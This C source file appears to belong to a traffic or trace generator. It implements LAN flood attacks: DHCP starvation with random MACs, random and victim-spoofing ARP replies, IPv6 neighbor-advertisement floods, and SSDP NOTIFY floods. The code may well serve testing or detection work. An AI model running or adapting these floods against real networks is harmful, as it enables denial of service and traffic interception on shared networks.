/* SPDX-License-Identifier: MIT */
/* Floods of hosts: DHCP, ARP, NDP, SSDP. */
#include "floods.h"
#include "trace.h"

#include <string.h>

static struct mac_address random_mac(void)
{
    struct mac_address mac;
    uint64_t bytes = random_next(&trace.random);
    memcpy(mac.bytes, &bytes, sizeof mac.bytes);
    mac.bytes[0] = 2;
    return mac;
}

void flood_dhcp(unsigned number)
{
    struct build b = {.size = 0};
    struct endpoint from = host(0, 68), to = host(0xffffffff, 67);
    from.mac = random_mac();
    memset(to.mac.bytes, 0xff, 6);
    build_hex(&b, "01 01 06 00");
    build_number(&b, number, 4);
    for (int i = 0; i < 5; i++)
        build_number(&b, 0, 4);
    build_bytes(&b, from.mac.bytes, 6);
    memset(b.data + b.size, 0, 202);
    b.size += 202;
    build_hex(&b, "63825363 35 01 01 0c 09 68");
    add_format(&b, "%08x", any());
    build_hex(&b, "ff");
    send_udp(&from, &to, &b);
}
void flood_arp_random(unsigned number)
{
    struct build frame = {.size = 0};
    struct endpoint from = host(0xc0a80000 | (any() & 0xffff), 0);
    (void)number;
    from.mac = random_mac();
    frame_arp(&frame, 2, &from, &from);
    send_frame(&frame);
}
void flood_arp_fight(unsigned number)
{
    struct build frame = {.size = 0};
    struct endpoint from = victim(0);
    from.mac = (struct mac_address){{2, 0, 0, 0, 1, (uint8_t)(number % 2)}};
    frame_arp(&frame, 2, &from, &from);
    send_frame(&frame);
}
void flood_ndp_random(unsigned number)
{
    struct build frame = {.size = 0}, b = {.size = 0};
    struct endpoint from = endpoint_of("fe80::1", 0), to = endpoint_of("ff02::1", 0);
    (void)number;
    from.mac = random_mac();
    build_number(&b, random_next(&trace.random), 8);
    memcpy(from.ip.bytes + 8, b.data, 8);
    b.size = 0;
    build_hex(&b, "88 00 0000 20000000");
    build_bytes(&b, from.ip.bytes, 16);
    build_hex(&b, "02 01");
    build_bytes(&b, from.mac.bytes, 6);
    frame_ip(&frame, &from, &to, 58, build_span(&b));
    send_frame(&frame);
}
void flood_ssdp(unsigned number)
{
    struct build b = {.size = 0};
    const struct endpoint from = attacker(1900), to = host(0xeffffffa, 1900);
    (void)number;
    build_text(&b, "NOTIFY * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nLOCATION: http://x/");
    add_format(&b, "%08x\r\nNT: a\r\nNTS: ssdp:alive\r\nSERVER: s", any());
    add_format(&b, "%08x\r\nUSN: uuid:", any());
    add_format(&b, "%08x\r\n\r\n", any());
    send_udp(&from, &to, &b);
}
